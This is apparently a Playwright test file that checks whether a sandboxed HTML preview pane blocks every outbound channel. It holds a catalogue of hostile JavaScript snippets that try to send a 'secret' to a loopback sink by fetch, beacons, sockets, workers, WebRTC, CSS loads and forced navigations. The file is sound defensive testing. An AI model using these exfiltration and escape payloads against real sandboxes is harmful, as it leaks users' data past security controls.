"""Ways out of a preview, tried against a sink on loopback. Nothing may reach it.

Each way is hostile on purpose: it goes round the compatibility layer, which only explains, to what must hold by
itself (sandbox, CSP, Connection-Allowlist, the app's frame-src). A control with those headers left out shows that
the sink would hear.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.runtime_site import RuntimeSite, Sink

pytestmark = pytest.mark.browser

# Tried together in one page; `to(name)` is an address of the sink.
STAYING = {
    "fetch": "fetch(to('fetch'), {mode: 'no-cors'}).catch(() => 0)",
    "fetch keepalive": "fetch(to('keepalive'), {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', to('xhr')); x.send()",
    "image": "new Image().src = to('image')",
    "srcset": "const i = new Image(); i.srcset = to('srcset') + ' 1x'; document.body.append(i)",
    "poster": "add('<video poster=\"' + to('poster') + '\" src=\"' + to('video') + '\"></video><audio src=\"' + to('audio') + '\"></audio>')",
    "style image": "add('<div style=\"height:9px;background:url(' + to('css') + ')\"></div>')",
    "style import": "add('<style>@import url(' + to('import') + ');@font-face{font-family:q;src:url(' + to('font') + ')}body{font-family:q}</style>')",
    "stylesheet": "add('<link rel=stylesheet href=\"' + to('sheet') + '\">')",
    "script": "const s = document.createElement('script'); s.src = to('script'); document.head.append(s)",
    "module": "import(to('module')).catch(() => 0)",
    "hints": "for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender', 'icon', 'manifest'])"
    " document.head.append(Object.assign(document.createElement('link'), {rel, as: 'image', href: to(rel)}))",
    "speculation": "const r = document.createElement('script'); r.type = 'speculationrules';"
    " r.textContent = JSON.stringify({prefetch: [{urls: [to('speculation')]}], prerender: [{urls: [to('prerender')]}]}); document.head.append(r)",
    "beacon": "Navigator.prototype.sendBeacon.call(navigator, to('beacon'), 'x')",
    "socket": "new WebSocket(to('socket').replace('http', 'ws'))",
    "events": "new EventSource(to('events'))",
    "transport": "new WebTransport(to('transport').replace('http:', 'https:'))",
    "frames": "add('<iframe src=\"' + to('iframe') + '\"></iframe><object data=\"' + to('object') + '\"></object><embed src=\"' + to('embed') + '\">')",
    "srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<img src=\"' + to('srcdoc') + '\">'; document.body.append(f)",
    "svg": "add('<svg><image href=\"' + to('svgimage') + '\"/><use href=\"' + to('svguse') + '#a\"/><filter id=f><feImage href=\"' + to('feimage') + '\"/></filter><rect filter=\"url(#f)\" width=9 height=9 /></svg>')",
    "input": "add('<input type=image src=\"' + to('input') + '\">')",
    "blob worker": "const code = 'fetch(\"' + to('workerfetch') + '\", {mode: \"no-cors\"}); importScripts(\"' + to('importscripts') + '\")';"
    " new Worker(URL.createObjectURL(new Blob([code]))); new Worker('data:text/javascript,' + encodeURIComponent(code))",
    "worker": "new Worker(to('worker'))",
    "shared worker": "new SharedWorker('data:text/javascript,' + encodeURIComponent('fetch(\"' + to('sharedworker') + '\", {mode: \"no-cors\"})'))",
    "webrtc": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP}, {urls: 'turn:127.0.0.1:' + UDP, username: 'a', credential: 'b'}]});"
    " c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "shelf redirect": "fetch('/shelf/../' + to('x')).catch(() => 0)",
}
# One page each: they leave, or try to.
LEAVING = {
    "href": "location.href = to('href')",
    "assign": "location.assign(to('assign'))",
    "replace": "location.replace(to('replace'))",
    "navigation": "navigation.navigate(to('navigate'))",
    "parent": "try { parent.location = to('parent') } catch {} try { top.location.href = to('top') } catch {}",
    "refresh": "add('<meta http-equiv=refresh content=\"0;url=' + to('refresh') + '\">')",
    "link": "addEventListener('click', (e) => e.stopImmediatePropagation(), true); HTMLElement.prototype.click.call(Object.assign(document.body.appendChild(document.createElement('a')), {href: to('link')}))",
    "link in new tab": "addEventListener('click', (e) => e.stopImmediatePropagation(), true); HTMLElement.prototype.click.call(Object.assign(document.body.appendChild(document.createElement('a')), {href: to('blank'), target: '_blank', ping: to('ping')}))",
    "download": "addEventListener('click', (e) => e.stopImmediatePropagation(), true); HTMLElement.prototype.click.call(Object.assign(document.body.appendChild(document.createElement('a')), {href: to('download'), download: 'x'}))",
    "form": "addEventListener('submit', (e) => e.stopImmediatePropagation(), true); add('<form action=\"' + to('form') + '\"><input name=q value=1></form>'); document.forms[0].requestSubmit()",
    "form post": "addEventListener('submit', (e) => e.stopImmediatePropagation(), true); add('<form method=post target=_blank action=\"' + to('post') + '\"><button></button></form>'); document.forms[0].requestSubmit()",
    "window": "Window.prototype.constructor; try { Object.getPrototypeOf(window).open?.call(window, to('open')) } catch {} const f = document.body.appendChild(document.createElement('iframe')); try { f.contentWindow.open(to('open2')) } catch {} try { f.contentWindow.location = to('open3') } catch {}",
    "data page": "location.href = 'data:text/html,<img src=\"' + to('data') + '\">'",
    "blob page": "location.href = URL.createObjectURL(new Blob(['<img src=\"' + to('blob') + '\">'], {type: 'text/html'}))",
    "script address": "location.href = 'javascript:\"<img src=' + to('javascript') + '>\"'",
}


@pytest.fixture
def sink() -> Iterator[Sink]:
    listening = Sink()
    yield listening
    listening.close()


def hostile(sink: Sink, *ways: str) -> str:
    """A page that tries `ways`, each on its own so that one failing stops no other."""
    tries = "".join(f"try {{ (() => {{ {way} }})() }} catch (e) {{}}\n" for way in ways)
    return (
        "<!DOCTYPE html><html><head></head><body><p>secret</p><script>"
        f"const to = (name) => '{sink.origin}/' + name + '?secret=1', UDP = {sink.udp_port};"
        "const add = (html) => document.body.insertAdjacentHTML('beforeend', html);\n"
        f"{tries}</script></body></html>"
    )


def run(page: Page, site: RuntimeSite, html: str, wait_ms: int) -> None:
    page.goto(site.app_origin + "/")
    for _ in range(100):
        if page.evaluate("window.isReady === true"):
            break
        page.wait_for_timeout(50)
    page.evaluate("() => addPane('a')")
    page.evaluate("(html) => panes.a.show({'index.html': html}, 'html')", html)
    page.wait_for_timeout(wait_ms)


def test_nothing_gets_out(chromium: Browser, sink: Sink) -> None:
    site = RuntimeSite()
    page = chromium.new_page()
    run(page, site, hostile(sink, *STAYING.values()), 3000)
    assert sink.heard == []
    assert page.evaluate("events.a.some(({type}) => type === 'loaded')")
    for name, way in LEAVING.items():
        run(page, site, hostile(sink, way), 700)
        assert sink.heard == [], name
        assert page.url == site.app_origin + "/", name
        assert len(page.context.pages) == 1, name
    # No way in to the preview origin's own server either, other than the shelf and the frame itself.
    assert {path.split("?")[0] for path in site.asked if not path.startswith("/shelf/")} == {"/frame"}
    page.close()
    site.close()


def test_clicks_of_a_person_do_not_help(chromium: Browser, sink: Sink) -> None:
    site = RuntimeSite()
    page = chromium.new_page()
    way = "addEventListener('click', (e) => { e.stopImmediatePropagation() }, true); add('<a id=go target=_blank style=\"position:fixed;inset:0\" href=\"' + to('click') + '\">x</a>')"
    for target in ("_blank", "_top", "_self"):
        run(page, site, hostile(sink, way.replace("_blank", target)), 500)
        page.mouse.click(300, 300)
        page.wait_for_timeout(500)
        assert sink.heard == [], target
        assert page.url == site.app_origin + "/"
        assert len(page.context.pages) == 1
    page.close()
    site.close()


def test_the_sink_would_hear(chromium: Browser, sink: Sink) -> None:
    site = RuntimeSite(drop=frozenset({"Content-Security-Policy", "Connection-Allowlist"}))
    page = chromium.new_page()
    run(page, site, hostile(sink, *STAYING.values()), 2500)
    heard = {entry.split("?")[0] for entry in sink.heard}
    assert {
        "GET /fetch",
        "GET /xhr",
        "GET /image",
        "GET /css",
        "GET /script",
        "GET /workerfetch",
        "UDP",
    } <= heard
    page.close()
    site.close()
